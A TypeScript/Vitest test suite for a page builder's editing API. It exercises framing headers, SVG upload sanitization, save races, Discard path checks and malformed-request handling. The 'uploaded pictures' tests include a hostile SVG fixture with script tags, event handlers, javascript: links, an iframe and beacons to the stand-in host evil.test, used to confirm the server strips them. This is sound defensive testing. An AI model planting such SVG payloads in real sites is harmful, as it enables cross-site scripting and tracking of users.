// @vitest-environment node
/**
 * The page builder's write API (builder/server/vite-plugin.ts, api.ts, files.ts) as an attacker and as
 * a busy author meet it: in a real Vite dev server (tests/helpers/editor-server.ts) over a copy of
 * the content that is a Git repository of its own. Framing, uploaded pictures, concurrent saves,
 * a hand edit racing a save, Discard, and malformed requests.
 */
import { request } from "node:http";
import { connect, type Socket } from "node:net";
import { readdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import sharp from "sharp";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { UPLOAD_LIMIT } from "../../../builder/server/media.ts";
import { EDITOR_HEADER } from "../../../builder/server/vite-plugin.ts";
import { commitAll, editorCall, startEditorServer, type EditorServer } from "../../helpers/editor-server.ts";
import { copySite, type SiteCopy } from "../../helpers/site-copy.ts";
import { waitFor } from "../../server/helpers.ts";

const PAGE = "site-config/pages/about-us.json";
const MEDIA_CSP = "default-src 'none'; style-src 'unsafe-inline'; sandbox";

let site: SiteCopy;
let editor: EditorServer;
const full = (file: string) => join(site.root, file);

beforeAll(async () => {
  site = copySite({ ownPublic: true });
  commitAll(site.root);
  editor = await startEditorServer(site.root);
}, 60_000);
afterAll(async () => {
  await editor?.close();
  site?.remove();
});

/** The page as the builder reads it, and a save of it with another title. */
async function readPage() {
  const file = await editorCall(editor.url, `/file?path=${PAGE}`);
  expect(file.status).toBe(200);
  return file.json as { text: string; hash: string; value: Record<string, unknown> };
}
const saveTitle = (base: { hash: string; value: Record<string, unknown> }, title: string) =>
  editorCall(editor.url, "/save", { method: "POST", body: { path: PAGE, value: { ...base.value, title }, hash: base.hash } });

describe("checks while the file on disk is not JSON", () => {
  // A text editor's save in place empties the file before writing it: a check arriving then read "" and failed with 500.
  it.each([
    ["empty (a save in place caught half-way)", ""],
    ["a hand edit's mistake", '{ "title": "About us", '],
  ])("%s: the builder's edits are still checked (200), and a save is refused as a change on disk (409)", async (_name, onDisk) => {
    const page = await readPage();
    const original = readFileSync(full(PAGE), "utf8");
    try {
      writeFileSync(full(PAGE), onDisk);
      const check = await editorCall(editor.url, "/check", { method: "POST", body: { path: PAGE, value: { ...page.value, title: "About the team" } } });
      expect(check.status, check.text.slice(0, 300)).toBe(200);
      expect(JSON.parse((check.json as { text: string }).text)).toEqual({ ...page.value, title: "About the team" });
      expect((await saveTitle(page, "About the team")).status).toBe(409);
      expect(readFileSync(full(PAGE), "utf8")).toBe(onDisk);
    } finally {
      writeFileSync(full(PAGE), original);
    }
  });
});

describe("framing", () => {
  it.each(["/__edit/api/state", "/__edit/api/nothing-here", "/__edit?file=site-config/pages/about-us.json", "/media/logo.svg", "/no-such-file"])(
    "%s: only the builder's own pages may frame it",
    async (path) => {
      const res = await fetch(`${editor.url}${path}`);
      await res.arrayBuffer();
      expect(res.headers.get("content-security-policy")).toContain("frame-ancestors 'self'");
      expect(res.headers.get("x-frame-options")).toBe("SAMEORIGIN");
    },
  );
});

describe("uploaded pictures", () => {
  const HOSTILE_SVG = `<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY x "entity-text">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40" viewBox="0 0 40 40" onload="fetch('/onload-ran')">
  <style>@import url(http://evil.test/a.css);</style>
  <style>rect.a { fill: url(#g) } rect.b { fill: url( "http://evil.test/c.png" ) }</style>
  <style>rect.c { fill: red }</style>
  <defs><linearGradient id="g"><stop offset="0" stop-color="#123456"/></linearGradient></defs>
  <script>fetch('/__edit/api/pages', { method: 'POST' })</script>
  <script xlink:href="http://evil.test/x.js"/>
  <rect class="a" width="40" height="20" fill="url(#g)"/>
  <rect y="20" width="40" height="20" style="fill: url(http://evil.test/beacon.png)" onclick="alert(1)"/>
  <a href="javascript:alert(1)"><circle r="5"/></a>
  <a xlink:href="javascript:alert(2)"><circle r="6"/></a>
  <foreignObject width="40" height="40"><div xmlns="http://www.w3.org/1999/xhtml"><iframe src="http://evil.test/"></iframe></div></foreignObject>
  <image href="http://evil.test/tracker.png" width="1" height="1"/>
  <use xlink:href="http://evil.test/sprite.svg#icon"/>
  <use href="#g"/>
  <animate attributeName="href" values="javascript:alert(3)"/>
  <set attributeName="onmouseover" to="alert(4)"/>
</svg>`;

  it("an SVG with scripts, handlers, javascript: links, foreign objects and outside references is stored without them, still a picture", async () => {
    const res = await editorCall(editor.url, "/upload", {
      method: "POST",
      body: Buffer.from(HOSTILE_SVG),
      headers: { "x-file-name": "evil.svg", "content-type": "application/octet-stream" },
    });
    expect(res.status, res.text).toBe(200);
    const stored = readFileSync(join(site.root, "public", res.json.src as string), "utf8");
    for (const gone of ["<script", "onload", "onclick", "javascript:", "foreignObject", "iframe", "evil.test", "@import", "<animate", "<set", "ENTITY"])
      expect(stored, gone).not.toContain(gone);
    // What draws the picture stays: shapes, the gradient and the references to it inside the file.
    expect(stored).toContain("linearGradient");
    expect(stored).toContain('fill="url(#g)"');
    expect(stored).toContain("rect.c { fill: red }");
    expect(stored).toContain('<use href="#g"/>');
    expect((await sharp(Buffer.from(stored)).metadata()).format).toBe("svg");
  });

  it("an SVG that is only a script is refused with a plain message", async () => {
    const res = await editorCall(editor.url, "/upload", {
      method: "POST",
      body: Buffer.from('<script xmlns="http://www.w3.org/2000/svg">alert(1)</script>'),
      headers: { "x-file-name": "only-script.svg", "content-type": "application/octet-stream" },
    });
    expect(res.status).toBe(415);
    expect(res.json.error).toMatch(/not a picture/);
  });

  it("files of public/ are served so that none can run a script: the sandboxing policy and nosniff, by any address", async () => {
    // A picture stored before this change, still with its script (or copied in by hand).
    writeFileSync(full("public/media/old.svg"), '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>');
    const addresses = ["/media/old.svg", "/media/logo.svg", `/@fs${site.root}/public/media/old.svg`, "/media/old%2esvg", "/media/hero-poster.webp"];
    for (const path of addresses) {
      const res = await waitFor(`${path} to be served`, async () => {
        const r = await fetch(`${editor.url}${path}`);
        await r.arrayBuffer();
        return r.status === 200 ? r : null;
      });
      expect(res.headers.get("content-security-policy"), path).toContain(MEDIA_CSP);
      expect(res.headers.get("x-content-type-options"), path).toBe("nosniff");
    }
  });
});

describe("saves racing each other and hand edits", () => {
  it("100 saves sent at once from the same reading: exactly one is written, the others get the conflict answer", async () => {
    const base = await readPage();
    const answers = await sendTogether(
      Array.from({ length: 100 }, (_, i) => ({
        path: "/save",
        body: { path: PAGE, value: { ...base.value, title: `About Us ${i} | Vistaar Technologies` }, hash: base.hash },
      })),
    );
    const statuses = answers.map((a) => a.status);
    console.log(`100 concurrent saves: ${statuses.filter((s) => s === 200).length} written, ${statuses.filter((s) => s === 409).length} refused (409)`);
    expect(statuses.filter((s) => s === 200)).toHaveLength(1);
    expect(statuses.filter((s) => s === 409)).toHaveLength(99);
    const winner = answers.findIndex((a) => a.status === 200);
    expect(JSON.parse(readFileSync(full(PAGE), "utf8")).title).toBe(`About Us ${winner} | Vistaar Technologies`);
    expect(answers.find((a) => a.status === 409)?.json.error).toMatch(/changed on disk since the editor read it/);
  }, 120_000);

  it("a hand edit made 1-10 ms after a save was sent is never overwritten (50 rounds)", async () => {
    let lost = 0;
    const outcomes = { saved: 0, conflict: 0 };
    for (let round = 0; round < 50; round++) {
      const base = await readPage();
      const hand = base.text.replace(
        /"description": "[^"]*"/,
        `"description": "Edited by hand in round ${round}: who we are and how we work with clients in Pune."`,
      );
      const saving = saveTitle(base, `About Us round ${round} | Vistaar Technologies`);
      await new Promise((r) => setTimeout(r, 1 + Math.random() * 9));
      writeFileSync(full(PAGE), hand);
      const answer = await saving;
      if (answer.status === 200) outcomes.saved++;
      else if (answer.status === 409) outcomes.conflict++;
      else throw new Error(`round ${round}: ${answer.status} ${answer.text}`);
      if (readFileSync(full(PAGE), "utf8") !== hand) lost++;
    }
    console.log(`hand-edit race: 50 rounds, ${outcomes.conflict} saves refused (409), ${outcomes.saved} written before the edit, ${lost} hand edits lost`);
    expect(lost).toBe(0);
  }, 300_000);

  it("nothing but content is ever written into site-config/", () => {
    const stray = (dir: string): string[] =>
      readdirSync(dir, { withFileTypes: true }).flatMap((e) => (e.isDirectory() ? stray(join(dir, e.name)) : e.name.endsWith(".json") ? [] : [e.name]));
    expect(stray(full("site-config"))).toEqual([]);
  });
});

describe("Discard", () => {
  it("takes one exact file: a wildcard or a Git pathspec is refused and reverts nothing", async () => {
    const files = ["site-config/pages/home.json", "site-config/pages/services.json", "site-config/settings.json"];
    const edited = files.map((f) => {
      const text = `${readFileSync(full(f), "utf8")} `;
      writeFileSync(full(f), text);
      return text;
    });
    for (const path of [
      "site-config/*.json",
      "site-config/pages/*.json",
      "site-config/pages/[hs]*.json",
      ":(glob)site-config/**/*.json",
      "site-config/pages/h?me.json",
    ]) {
      const res = await editorCall(editor.url, "/discard", { method: "POST", body: { path } });
      expect([400, 403, 404], `${path}: ${res.text}`).toContain(res.status);
      expect(typeof res.json.error).toBe("string");
      for (const [i, f] of files.entries()) expect(readFileSync(full(f), "utf8"), `${f} after discarding ${path}`).toBe(edited[i]);
    }
    const res = await editorCall(editor.url, "/discard", { method: "POST", body: { path: files[0] } });
    expect(res.status, res.text).toBe(200);
    expect(readFileSync(full(files[0]!), "utf8")).toBe(edited[0]!.slice(0, -1));
    expect(readFileSync(full(files[1]!), "utf8")).toBe(edited[1]);
    for (const f of files.slice(1)) await editorCall(editor.url, "/discard", { method: "POST", body: { path: f } });
  });
});

/**
 * POSTs each request on a connection of its own, all held back by their last byte until every one
 * is on the wire, then completed together: the server gets them at the same moment.
 */
async function sendTogether(requests: { path: string; body: unknown }[]): Promise<{ status: number; json: Record<string, unknown> }[]> {
  const { hostname, port } = new URL(editor.url);
  const sockets = await Promise.all(
    requests.map(
      ({ path, body }) =>
        new Promise<{ socket: Socket; last: string; answer: Promise<string> }>((resolve, reject) => {
          const socket = connect(Number(port), hostname, () => {
            const json = JSON.stringify(body);
            socket.write(
              `POST /__edit/api${path} HTTP/1.1\r\nHost: ${hostname}:${port}\r\nContent-Type: application/json\r\n${EDITOR_HEADER}: 1\r\nContent-Length: ${Buffer.byteLength(json)}\r\nConnection: close\r\n\r\n${json.slice(0, -1)}`,
            );
            resolve({ socket, last: json.slice(-1), answer });
          });
          let text = "";
          socket.on("data", (d: Buffer) => (text += d.toString()));
          socket.on("error", reject);
          const answer = new Promise<string>((done) => socket.on("close", () => done(text)));
        }),
    ),
  );
  for (const { socket, last } of sockets) socket.write(last);
  return Promise.all(
    sockets.map(async ({ answer }) => {
      const text = await answer;
      const status = Number(text.slice(9, 12));
      const bodyText = text.slice(text.indexOf("\r\n\r\n") + 4);
      let json: Record<string, unknown> = {};
      try {
        json = JSON.parse(bodyText) as Record<string, unknown>;
      } catch {
        json = { notJson: bodyText.slice(0, 200) };
      }
      return { status, json };
    }),
  );
}

/** Sends a request and resolves with its answer, or with "reset" if the connection was closed without one. */
function send(
  path: string,
  headers: Record<string, string | number>,
  body: (req: ReturnType<typeof request>) => void,
): Promise<{ status: number; json: Record<string, unknown> } | "reset"> {
  return new Promise((resolve) => {
    const { hostname, port } = new URL(editor.url);
    const req = request({ host: hostname, port, path: `/__edit/api${path}`, method: "POST", headers: { [EDITOR_HEADER]: "1", ...headers } }, (res) => {
      let text = "";
      res.on("data", (d: Buffer) => (text += d.toString()));
      res.on("end", () => {
        req.destroy();
        let json: Record<string, unknown> = {};
        try {
          json = JSON.parse(text) as Record<string, unknown>;
        } catch {
          json = { notJson: text.slice(0, 200) };
        }
        resolve({ status: res.statusCode ?? 0, json });
      });
    });
    req.on("error", () => resolve("reset"));
    body(req);
  });
}

describe("malformed requests get a JSON answer in the 4xx, never the dev server's 500 page", () => {
  const png = () =>
    sharp({ create: { width: 2, height: 2, channels: 3, background: "#888" } })
      .png()
      .toBuffer();
  const cases: [string, () => Promise<{ status: number; headers: Headers; json: Record<string, unknown>; text: string }>][] = [
    [
      "a bad % in X-File-Name",
      async () =>
        editorCall(editor.url, "/upload", { method: "POST", body: await png(), headers: { "x-file-name": "%E0%A4%A.png", "content-type": "image/png" } }),
    ],
    ["a 300-character page address", () => editorCall(editor.url, "/pages", { method: "POST", body: { action: "create", slug: "a".repeat(300) } })],
    [
      "a 300-character new address",
      () => editorCall(editor.url, "/pages", { method: "POST", body: { action: "rename", slug: "about-us", to: "b".repeat(300) } }),
    ],
    ["Origin: null", () => editorCall(editor.url, "/state", { headers: { origin: "null" } })],
    ["Origin: not an address", () => editorCall(editor.url, "/save", { method: "POST", body: {}, headers: { origin: "::::" } })],
    ["a JSON body that is null", () => editorCall(editor.url, "/save", { method: "POST", body: null })],
    ["a JSON body that is a list", () => editorCall(editor.url, "/pages", { method: "POST", body: [] })],
    ["a path that is a number", () => editorCall(editor.url, "/save", { method: "POST", body: { path: 5, value: {}, hash: "x" } })],
    ["a save without a hash", () => editorCall(editor.url, "/save", { method: "POST", body: { path: PAGE, value: { title: "x" } } })],
    ["a slug that is an object", () => editorCall(editor.url, "/pages", { method: "POST", body: { action: "delete", slug: { a: 1 } } })],
    ["a preview that is a number", () => editorCall(editor.url, "/check", { method: "POST", body: { path: PAGE, value: {}, preview: 7 } })],
    ["a 5,000-character file path", () => editorCall(editor.url, `/file?path=site-config/${"x".repeat(5000)}.json`)],
    ["a 9,000-character address", () => editorCall(editor.url, `/links?route=/${"y".repeat(9000)}`)],
    ["a discard of a folder", () => editorCall(editor.url, "/discard", { method: "POST", body: { path: "site-config/pages" } })],
    ["a 5,000-character discard path", () => editorCall(editor.url, "/discard", { method: "POST", body: { path: `site-config/${"z".repeat(5000)}.json` } })],
    ["no content type", () => editorCall(editor.url, "/check", { method: "POST", body: Buffer.from("{}") })],
  ];
  it.each(cases)("%s", async (_name, call) => {
    const res = await call();
    expect([400, 403, 404, 409, 413, 414, 415, 422], res.text.slice(0, 300)).toContain(res.status);
    expect(res.headers.get("content-type")).toMatch(/^application\/json/);
    expect(typeof res.json.error).toBe("string");
  });

  it.each(["con", "aux", "lpt1", "send-email"])("a new page called %s is refused, saying why (Windows, or an address the site uses)", async (slug) => {
    const res = await editorCall(editor.url, "/pages", { method: "POST", body: { action: "create", slug } });
    expect(res.status).toBe(400);
    expect(res.json.error).toMatch(/Windows keeps|is taken/);
  });

  it("a 5,000-character file name: the picture is stored under a shorter name", async () => {
    const res = await editorCall(editor.url, "/upload", {
      method: "POST",
      body: await png(),
      headers: { "x-file-name": `${"long-name-".repeat(500)}.png`, "content-type": "image/png" },
    });
    expect(res.status, res.text).toBe(200);
    expect((res.json.src as string).length).toBeLessThan(100);
  });

  it("an upload whose Content-Length is over the limit gets 413 before any of it is sent", async () => {
    // Headers only: the answer must not wait for the body.
    const answer = await send("/upload", { "content-type": "image/png", "content-length": UPLOAD_LIMIT + 1, "x-file-name": "big.png" }, (req) =>
      req.flushHeaders(),
    );
    expect(answer).not.toBe("reset");
    if (answer === "reset") return;
    expect(answer.status).toBe(413);
    expect(answer.json.error).toMatch(/too large.*25 MB/);
  });

  it("an upload over the limit without a Content-Length gets 413, not a reset", async () => {
    const chunk = Buffer.alloc(1024 * 1024, 7);
    const answer = await send("/upload", { "content-type": "image/png", "transfer-encoding": "chunked", "x-file-name": "big.png" }, (req) => {
      let sent = 0;
      const more = () => {
        while (sent <= UPLOAD_LIMIT + 2 * chunk.length) {
          sent += chunk.length;
          if (!req.write(chunk)) return void req.once("drain", more);
        }
        req.end();
      };
      more();
    });
    expect(answer).not.toBe("reset");
    if (answer === "reset") return;
    expect(answer.status).toBe(413);
    expect(answer.json.error).toMatch(/too large/);
  });

  it("a JSON body over its limit gets 413", async () => {
    const answer = await send("/check", { "content-type": "application/json", "content-length": 3 * 1024 * 1024 }, (req) => req.flushHeaders());
    expect(answer).not.toBe("reset");
    if (answer !== "reset") expect(answer.status).toBe(413);
  });
});

describe("a new page from a page template (issue 51)", () => {
  it("is an ordinary draft page with the template's sections, its placeholders marked, and refused as published until filled", async () => {
    const state = await editorCall(editor.url, "/state");
    expect((state.json as { pageTemplates: string[] }).pageTemplates).toEqual(["landing-page", "text-page"]);
    const made = await editorCall(editor.url, "/pages", { method: "POST", body: { action: "create", slug: "cloud-migration", template: "landing-page" } });
    expect(made.status, made.text).toBe(200);
    expect(made.json).toEqual({ path: "site-config/pages/cloud-migration.json", route: "/cloud-migration" });
    const page = JSON.parse(readFileSync(full("site-config/pages/cloud-migration.json"), "utf8")) as Record<string, unknown> & { sections: { type: string }[] };
    const template = JSON.parse(readFileSync(full("site-config/templates/landing-page.json"), "utf8")) as typeof page;
    expect(page.title).toBe("Cloud Migration | Vistaar Technologies");
    expect(page.status).toBe("draft");
    expect(page.sections).toEqual(template.sections);

    // Each placeholder left is a warning on its field while the page is a draft.
    type Problems = { problems: { file: string; severity: string; message: string; field?: string }[] };
    const marked = await waitFor("the new page's placeholders to be listed", async () => {
      const now = ((await editorCall(editor.url, "/state")).json as Problems).problems.filter((p) => p.file === "site-config/pages/cloud-migration.json");
      return now.length > 0 ? now : undefined;
    });
    expect(marked.map((p) => `${p.severity} ${p.field}: ${p.message}`)).toEqual([
      "warning /description: The placeholder [[One or two sentences on what this page offers, shown under its title in search results]] is still to be filled. Write the page's own text in its place: the page cannot be published with it.",
      "warning /sections/0/headline: The placeholder [[Headline: what you offer, in a few words]] is still to be filled. Write the page's own text in its place: the page cannot be published with it.",
      "warning /sections/0/description: The placeholder [[Two sentences: who it is for, and what they get that they would not get elsewhere]] is still to be filled. Write the page's own text in its place: the page cannot be published with it.",
      "warning /sections/1/kicker: The placeholder [[A word or two above the heading]] is still to be filled. Write the page's own text in its place: the page cannot be published with it.",
      "warning /sections/1/heading: The placeholder [[What working with us on this looks like]] is still to be filled. Write the page's own text in its place: the page cannot be published with it.",
      "warning /sections/1/paragraphs/0: The placeholder [[A paragraph on how the work is done and what the reader has at the end of it]] is still to be filled. Write the page's own text in its place: the page cannot be published with it.",
      "warning /sections/2/heading: The placeholder [[An invitation, in a few words]] is still to be filled. Write the page's own text in its place: the page cannot be published with it.",
      "warning /sections/2/text: The placeholder [[One sentence on the first step and what it costs the reader]] is still to be filled. Write the page's own text in its place: the page cannot be published with it.",
    ]);

    // Published with placeholders left: errors, which stop a build.
    const file = (await editorCall(editor.url, "/file?path=site-config/pages/cloud-migration.json")).json as { hash: string; value: Record<string, unknown> };
    const { status: _, ...published } = file.value;
    const check = await editorCall(editor.url, "/check", { method: "POST", body: { path: "site-config/pages/cloud-migration.json", value: published } });
    const errors = (check.json as Problems).problems.filter((p) => p.file === "site-config/pages/cloud-migration.json" && p.severity === "error");
    expect(errors).toHaveLength(8);
    expect(errors[0]?.message).toBe(
      'The placeholder [[One or two sentences on what this page offers, shown under its title in search results]] was left in a published page. Write the page\'s own text in its place, or make the page a draft again ("status": "draft") until it is written.',
    );
  });

  it("a template that does not exist is refused, naming its file", async () => {
    const res = await editorCall(editor.url, "/pages", { method: "POST", body: { action: "create", slug: "careers", template: "careers-page" } });
    expect(res.status).toBe(400);
    expect(res.json.error).toBe('There is no page template "careers-page" (site-config/templates/careers-page.json).');
  });
});

describe("Make shared (issue 51)", () => {
  // The site's own contact section, as a page would have it written in place.
  const contact = () => (JSON.parse(readFileSync(full("site-config/shared/contact.json"), "utf8")) as { section: { type: string } }).section;

  it("stores the section as site-config/shared/<name>.json, which the builder's state then lists, placed nowhere yet", async () => {
    const made = await editorCall(editor.url, "/shared", { method: "POST", body: { name: "contact-form", section: contact() } });
    expect(made.status, made.text).toBe(200);
    expect(made.json).toEqual({ path: "site-config/shared/contact-form.json", name: "contact-form" });
    expect(JSON.parse(readFileSync(full("site-config/shared/contact-form.json"), "utf8"))).toEqual({
      $schema: "../../schemas/shared-section.schema.json",
      section: contact(),
    });
    // At once: the builder asks for the content right after, to show the placement it writes.
    const state = (await editorCall(editor.url, "/content")).json as { shared: { name: string; section: unknown; placedIn: string[] }[] };
    expect(state.shared.find((s) => s.name === "contact-form")).toEqual({
      name: "contact-form",
      file: "site-config/shared/contact-form.json",
      section: contact(),
      placedIn: [],
    });
  });

  it("refuses a name in use, a name pages could not write, and what is not a section, each in words", async () => {
    const cases: [unknown, number, string][] = [
      [
        { name: "contact-form", section: contact() },
        409,
        'There is already a shared section "contact-form" (site-config/shared/contact-form.json): choose another name.',
      ],
      [
        { name: "Contact Form", section: contact() },
        400,
        '"Contact Form" cannot be a shared section\'s name: use lower-case letters, digits and hyphens between words, e.g. "contact-dark".',
      ],
      [{ name: "faq", section: { heading: "Questions" } }, 400, 'Only a section (an object with its "type") can be made shared.'],
      [{ name: "faq", section: { shared: "contact-form", type: "contact" } }, 400, "This section is a shared one already: it is placed by name."],
      [{ name: "faq", section: [] }, 400, 'The request\'s "section" must be of type object.'],
    ];
    for (const [body, status, error] of cases) {
      const res = await editorCall(editor.url, "/shared", { method: "POST", body });
      expect([res.status, res.json.error]).toEqual([status, error]);
    }
    expect(readdirSync(full("site-config/shared")).sort()).toEqual(["contact-form.json", "contact.json", "portfolio.json", "testimonials.json"]);
  });
});
